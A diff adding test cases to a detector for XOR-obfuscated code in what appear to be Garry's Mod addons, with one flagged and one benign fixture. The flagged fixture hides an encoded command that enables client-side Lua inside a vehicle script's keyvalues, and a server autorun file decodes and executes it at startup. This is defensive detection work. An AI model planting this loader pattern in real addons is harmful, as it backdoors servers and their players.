@@ -18,4 +18,53 @@ describe('xor_decoding', () => {
     });
     expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
   });
+  it("code hidden XOR-encoded in a vehicle script's keyvalues, compiled", () => {
+    const plain = 'RunConsoleCommand("sv_allowcslua", "1")';
+    const key = 'tuned_jeep';
+    const enc = Buffer.from(
+      [...plain].map((c, i) => c.charCodeAt(0) ^ key.charCodeAt(i % key.length)),
+    ).toString('base64');
+    const findings = check(rule, {
+      'scripts/vehicles/tuned_jeep.txt': [
+        '"vehicle"',
+        '{',
+        '\t"wheelsperaxle"\t"2"',
+        '\t"tuning"',
+        '\t{',
+        `\t\t"name"\t"${key}"`,
+        `\t\t"ecu"\t"${enc}"`,
+        '\t}',
+        '}',
+      ].join('\n'),
+      'lua/autorun/server/sv_tuning.lua': [
+        'local function unpackECU(blob, key)',
+        ' local raw = util.Base64Decode(blob or "")',
+        ' local out = {}',
+        ' for i = 1, #raw do out[i] = string.char(bit.bxor(string.byte(raw, i), string.byte(key, (i - 1) % #key + 1))) end',
+        ' return table.concat(out)',
+        'end',
+        'hook.Add("Initialize", "tuning", function()',
+        ' local kv = util.KeyValuesToTable(file.Read("scripts/vehicles/tuned_jeep.txt", "GAME") or "")',
+        ' local t = kv and kv.tuning',
+        ' if t then local f = CompileString(unpackECU(t.ecu, t.name or ""), "ecu", false) if f then f() end end',
+        'end)',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
+    expect(findings.some((f) => f.decoded?.includes('sv_allowcslua'))).toBe(true);
+  });
+  it("a vehicle script's keyvalues read for numbers only", () => {
+    const findings = check(rule, {
+      'scripts/vehicles/jeep.txt': '"vehicle"\n{\n\t"engine"\n\t{\n\t\t"horsepower"\t"420"\n\t}\n}',
+      'lua/autorun/server/sv_tuning.lua': [
+        'hook.Add("Initialize", "tuning", function()',
+        ' local kv = util.KeyValuesToTable(file.Read("scripts/vehicles/jeep.txt", "GAME") or "")',
+        ' local hp = tonumber(kv and kv.engine and kv.engine.horsepower) or 0',
+        ' for i = 1, 8 do hp = bit.bxor(hp, i) end',
+        ' print("horsepower", hp)',
+        'end)',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBeLessThan(RANK.high);
+  });
 });
